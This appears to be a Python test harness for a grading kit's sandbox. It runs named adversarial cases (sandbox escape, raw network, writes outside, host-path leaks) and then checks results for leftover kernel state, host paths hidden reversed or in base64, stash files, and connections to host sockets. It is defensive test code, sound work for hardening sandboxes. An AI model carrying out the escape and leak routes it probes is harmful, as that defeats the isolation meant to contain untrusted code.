def problems_after(ctx: Ctx, out: Path, used_uids: set[int]) -> list[str]:
    """What no launcher may leave: kernel state of a sandbox uid, host paths in any results.json."""
    from grader import KIT_ROOT
    from grader.sandbox import uids

    problems = []
    for uid in sorted(used_uids):
        if not uids.hold_if_free(uid):
            continue  # leased again since by another grader process (a parallel matrix entry): its state is theirs
        try:
            state = uids.uid_state(uid)
        finally:
            uids.drop_hold(uid)
        if state.get("keys") or state.get("sysvipc") or state.get("files"):
            problems.append(f"sandbox uid {uid} left kernel state behind: {state}")
    from tests.adversarial.batch import no_sandbox_names

    import re

    host = [str(KIT_ROOT), str(ctx.root), str(ctx.out.resolve()), str(ctx.marker_dir), f"-{os.getpid()}-"]
    pid_named = re.compile(r"kit-[a-z]+-\d+-")  # a temp folder named with a grader's pid
    for path in out.rglob("results.json"):
        text = path.read_text()
        views = _decoded(text) + _decoded("\n".join(_strings(json.loads(text))))  # JSON escapes undone too
        for h in host:  # a folder as a whole path component: /work/kit-venv is not the kit root /work/kit
            shown = re.compile(re.escape(h) + (r"(?![\w-])" if h.startswith("/") else ""))
            if any(shown.search(view) for view in views):
                problems.append(f"{path.parent.name}/results.json shows the host path {h} (maybe reversed or in base64)")
        if any(pid_named.search(view) for view in views):
            problems.append(f"{path.parent.name}/results.json shows a folder named with a grader's pid")
        problems += [f"{path.parent.name}: {p}" for p in no_sandbox_names(ctx, json.loads(text))]
    if os.path.exists("/dev/shm/kit-stash.py") or os.path.exists("/tmp/kit-stash.py"):
        problems.append("a stash file was left in /dev/shm or /tmp")
    return problems


def _strings(doc: object) -> list[str]:
    """Every string in a JSON document (keys too), unescaped: a reversed path after a `\\n` reads whole."""
    if isinstance(doc, str):
        return [doc]
    if isinstance(doc, dict):
        return [s for k, v in doc.items() for s in (k, *_strings(v))]
    if isinstance(doc, list):
        return [s for v in doc for s in _strings(v)]
    return []


def _decoded(text: str) -> list[str]:
    """`text`, reversed, and every base64 run in either decoded (a submission can quote a path that way)."""
    import base64
    import re

    views = [text, text[::-1]]
    for view in (text, text[::-1]):
        for run in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", view):
            for cut in range(4):  # a run capped in the middle: every alignment
                chunk = run[cut:]
                try:
                    views.append(base64.b64decode(chunk[: len(chunk) // 4 * 4]).decode("utf-8", "replace"))
                except ValueError:
                    pass
    return views


# -- the launcher matrix: one launcher, a reduced set, a JSON report -------------------------------

#: The container entry (landlock as root where namespaces cannot be made): auto's choice and what a
#: missing namespace could change -- the network, namespaces, host paths, cgroups, writes; the other
#: cases are landlock as root, which the "landlock as root" entry runs in full.
CONTAINER_NAMES = ("honest_full", "honest_stub", "twin_raises", "writes_outside", "network", "raw_network", "dgram_host",
                   "unshare_escape", "host_paths", "cgroup_names")


def run_matrix_entry(launcher: str, work: Path, port: int, unix_sockets: tuple[str, ...] = (),
                     names: tuple[str, ...] = MATRIX_NAMES) -> dict:
    import io

    from rich.console import Console

    from grader.batch.grade import GradeOptions, grade
    from tests.adversarial.cases import CASES

    root, out, markers = work / "submissions", work / "out", work / "markers"
    for d in (root, markers):
        d.mkdir(parents=True)
    os.chmod(work, 0o755)
    ctx = Ctx(root=root, out=out, marker_dir=markers, port=port, unix_sockets=unix_sockets)
    cases = [c for c in [*CASES, *ISOLATION_CASES] if c.name in names]
    for case in cases:
        case.build(ctx)
    result = grade([root], GradeOptions(out=out, jobs=1, modules=("memory",), call_timeout=5.0, import_timeout=5.0,
                                        memory_mb=2048, progress=False, launcher=launcher),
                   Console(file=io.StringIO(), width=200))
    docs = {p.parent.name: json.loads(p.read_text()) for p in out.rglob("results.json")}
    problems = check_scores(cases, docs)
    used = set()
    layers = {}
    for p in out.rglob("instructor.json"):
        sb = json.loads(p.read_text()).get("sandbox", {})
        if sb.get("uid") is not None:
            used.add(int(sb["uid"]))
        layers = sb.get("layers") or layers
    problems += problems_after(ctx, out, used)
    problems += [f"a file appeared outside the sandbox: {p}" for p in markers.iterdir()]
    return {"launcher": result.launcher, "layers": layers, "cases": len(cases), "problems": problems,
            "seconds": round(result.seconds, 1), "uid": os.getuid(),
            "scores": {k: d["score"] for k, d in sorted(docs.items())}}


def check_scores(cases: list[Case], docs: dict[str, dict]) -> list[str]:
    problems = []
    for case in cases:
        doc = docs.get(case.name)
        if doc is None:
            problems.append(f"{case.name}: not graded")
            continue
        got, full = doc["score"], doc["max_score"] - doc["extra_data"]["pending_points"]
        exp = case.expect
        if isinstance(exp, Rejected):
            continue
        if isinstance(exp, Full) and got != full:
            problems.append(f"{case.name} ({case.why}): expected full marks {full}, got {got}")
        if isinstance(exp, Zero) and got != 0:
            problems.append(f"{case.name} ({case.why}): expected 0, got {got}")
        if isinstance(exp, Twin) and exp.name != case.name:
            twin = docs.get(exp.name)
            if twin is None or got != twin["score"]:
                problems.append(f"{case.name} ({case.why}): expected its twin's {twin and twin['score']}, got {got}")
    return problems


def host_unix_sockets(work: Path) -> tuple[list, tuple[str, ...]]:
    """Two datagram sockets a host service would have, listening: one at a path anyone may write to,
    one abstract ("@name").  Nothing a submission sends may reach them."""
    import secrets
    import socket

    path = work / f"host-{secrets.token_hex(4)}.sock"
    abstract = f"@kit-host-{secrets.token_hex(4)}"
    by_path, by_name = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    by_path.bind(str(path))
    os.chmod(path, 0o777)
    by_name.bind("\0" + abstract[1:])
    for s in (by_path, by_name):
        s.setblocking(False)
    return [by_path, by_name], (str(path), abstract)


def main(argv: list[str] | None = None) -> int:
    import argparse
    import socket

    parser = argparse.ArgumentParser(prog="python -m tests.adversarial.isolation")
    parser.add_argument("--launcher", default="auto")
    parser.add_argument("--work", required=True)
    parser.add_argument("--expect-launcher", default=None)
    parser.add_argument("--cases", default="", help="a comma-separated subset of MATRIX_NAMES (default: all of them)")
    args = parser.parse_args(argv)
    names = tuple(n for n in args.cases.split(",") if n) or MATRIX_NAMES
    if set(names) - set(MATRIX_NAMES):
        parser.error(f"not in MATRIX_NAMES: {sorted(set(names) - set(MATRIX_NAMES))}")
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    srv.setblocking(False)
    listeners, unix = host_unix_sockets(Path(args.work))
    report = run_matrix_entry(args.launcher, Path(args.work), srv.getsockname()[1], names=names, unix_sockets=unix)
    try:
        srv.accept()
        report["problems"].append("the network server saw a connection")
    except BlockingIOError:
        pass
    for name, sock in zip(unix, listeners):
        try:
            report["problems"].append(f"the host unix socket {name} received {sock.recv(100)!r}")
        except BlockingIOError:
            pass
    if args.expect_launcher and report["launcher"] != args.expect_launcher:
        report["problems"].append(f"expected launcher {args.expect_launcher}, got {report['launcher']}")
    print("MATRIX-REPORT " + json.dumps(report))
    return 0 if not report["problems"] else 1


if __name__ == "__main__":
    raise SystemExit(main())
